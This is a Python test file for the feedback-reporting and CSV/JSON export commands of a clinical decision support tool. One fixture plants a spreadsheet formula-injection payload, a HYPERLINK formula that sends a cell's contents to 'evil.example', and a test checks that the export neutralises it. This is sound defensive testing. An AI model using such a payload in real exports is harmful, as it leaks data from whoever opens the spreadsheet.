"""Quality teams see what became of every card that was shown, and can take it elsewhere."""

import csv
import io
import json
from collections.abc import Iterator
from contextlib import redirect_stdout
from datetime import timedelta
from pathlib import Path

import pytest

from cds.cli import main
from tests.feedback.clinic import CRPS, EYES, GLAUCOMA, MIND, NADIA, NOON, PSYCHOSIS, Clinic, accepted, overridden
from tests.running import Json, Running, running, settings_in

EYE_RULE = "raised_intraocular_pressure"
DAY = timedelta(days=1)
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
SIX = ("intervention", "action_taken", "user_feedback", "user", "date", "location")


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Five times glaucoma: overridden twice, accepted, ignored, and once in January, overridden and then accepted."""
    with running(settings_in(tmp_path_factory.mktemp("service"))) as service:
        for day, said in ((0, "old"), (0, "old"), (1, "taken"), (2, ""), (-31, "both")):
            _see(service, day, said)
        again = Clinic(service, conditions=(CRPS, GLAUCOMA), now=NOON)
        again.say(overridden(again.cards()[EYES], code="", overrideReason={"userComment": FORMULA}))
        again.now = NOON + timedelta(minutes=1)
        again.cards()  # the card stays silent: it was not shown
        again.say(overridden("unknown-card", code="@SUM(A1)"))
        yield service.database


def _see(service: Running, day: int, said: str) -> None:
    clinic = Clinic(service, conditions=(CRPS, GLAUCOMA), now=NOON + day * DAY)
    card = clinic.cards()[EYES]
    if said in {"old", "both"}:
        clinic.say(overridden(card, when=clinic.now))
    if said in {"taken", "both"}:
        clinic.now += timedelta(minutes=1)
        clinic.say(accepted(card, when=clinic.now))


def cds(log: Path, *words: str) -> str:
    out = io.StringIO()
    with redirect_stdout(out):
        assert 0 == main(["feedback", "report", "--database", str(log), *words])
    return out.getvalue()


def figures(log: Path, *words: str) -> Json:
    found: Json = json.loads(cds(log, "--rule", EYE_RULE, "--json", *words))
    (rule,) = found["report"]["rules"]
    return dict(rule)


def test_cards_are_counted_by_rule_and_level(log: Path) -> None:
    found = figures(log)

    assert ("warning", 6, 2, 3, 1) == tuple(
        found[name] for name in ("level", "shown", "accepted", "overridden", "ignored")
    )
    assert 60 == found["overridePercent"]


def test_the_latest_of_several_answers_counts(log: Path) -> None:
    assert 1 == figures(log, "--until", "2026-01-31")["accepted"]
    assert 0 == figures(log, "--until", "2026-01-31")["overridden"]


def test_overrides_are_counted_by_reason(log: Path) -> None:
    assert {"data-outdated-or-wrong": 2, "(no reason given)": 1} == figures(log)["reasons"]


@pytest.mark.parametrize(
    ("by", "shown"),
    [("month", {"2026-01": 1, "2026-02": 5}), ("week", {"2026-W01": 1, "2026-W05": 3, "2026-W06": 2})],
)
def test_the_trend_is_told_by_month_or_week(log: Path, by: str, shown: Json) -> None:
    assert shown == {name: one["shown"] for name, one in figures(log, "--by", by)["trend"].items()}


def test_days_and_client_narrow_the_report(log: Path) -> None:
    assert 3 == figures(log, "--since", "2026-02-01", "--until", "2026-02-01", "--client", "development")["shown"]
    assert [] == json.loads(cds(log, "--client", "another", "--json"))["report"]["rules"]


def test_feedback_on_unknown_cards_is_counted_apart(log: Path) -> None:
    assert 1 == json.loads(cds(log, "--json"))["report"]["feedbackOnUnknownCards"]


def test_the_table_says_the_same_in_words(log: Path) -> None:
    lines = cds(log).splitlines()
    row = next(line for line in lines if line.startswith(EYE_RULE))

    assert [EYE_RULE, "warning", "6", "2", "3", "1", "60", "%"] == row.split()
    assert any("2 x data-outdated-or-wrong" in line for line in lines)


def test_csv_and_json_have_the_six_members_of_the_regulation_for_every_card(log: Path, tmp_path: Path) -> None:
    """45 CFR 170.315(b)(11)(ii)(C)."""
    cds(log, "--rule", EYE_RULE, "--csv", str(tmp_path / "export.csv"))
    with (tmp_path / "export.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    exported = json.loads(cds(log, "--rule", EYE_RULE, "--json"))["rows"]

    assert SIX == tuple(rows[0])[:6]
    assert 6 == len(rows) == len(exported)
    assert {NADIA} == {row["user"] for row in rows}
    assert {"Location/ward-7"} == {row["location"] for row in rows}
    assert {"accepted", "overridden", "ignored"} == {row["action_taken"] for row in rows}
    assert "data-outdated-or-wrong" in {row["user_feedback"] for row in rows}
    assert {"Order an eye pressure (right)", ""} == {row["accepted_suggestions"] for row in rows}
    assert [] == [row for row in rows if not row["date"].startswith("2026-")]


def test_no_cell_of_the_export_is_a_formula(log: Path) -> None:
    """A clinician's comment is opened in somebody else's spreadsheet."""
    rows = list(csv.reader(io.StringIO(cds(log, "--csv", "-"))))
    cells = [cell for row in rows for cell in row]

    assert [] == [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert 1 == sum(cell == f"'{FORMULA}" for cell in cells)


def test_an_export_is_for_its_owner_alone(log: Path, tmp_path: Path) -> None:
    cds(log, "--csv", str(tmp_path / "export.csv"))

    assert 0o600 == (tmp_path / "export.csv").stat().st_mode & 0o777


def test_a_card_of_another_level_stands_in_a_row_of_its_own(tmp_path: Path) -> None:
    with running(settings_in(tmp_path)) as service:
        clinic = Clinic(service, conditions=(CRPS, PSYCHOSIS))
        clinic.say(overridden(clinic.cards()[MIND]))
        rules = json.loads(cds(service.database, "--json"))["report"]["rules"]

    assert {"critical": 1} == {one["level"]: one["overridden"] for one in rules if one["overridden"]}


def explained(log: Path, reference: str) -> str:
    out = io.StringIO()
    with redirect_stdout(out):
        assert 0 == main(["explain", reference, "--database", str(log)])
    return out.getvalue()


def test_the_story_of_a_card_tells_what_was_done_with_it(log: Path) -> None:
    exported = json.loads(cds(log, "--rule", EYE_RULE, "--json"))["rows"]
    both = next(row for row in exported if row["date"].startswith("2026-01"))
    story = explained(log, both["card"])
    later = story[story.index("WHAT WAS ADDED LATER") :]

    assert later.index("overridden 2026-01-01T12:00:00") < later.index("accepted 2026-01-01T12:01:00")
    assert "because   data-outdated-or-wrong, urn:ketamine-cds:override" in later
    assert "took      suggestion" in later


def test_the_story_of_feedback_names_its_card(log: Path) -> None:
    orphan = json.loads(cds(log, "--json"))["rows"][-1]
    story = explained(log, orphan["record"])

    assert "overridden 2026-02-01T12:00:00  card unknown-card" in story
    assert "no card of this client is known by that name" in story
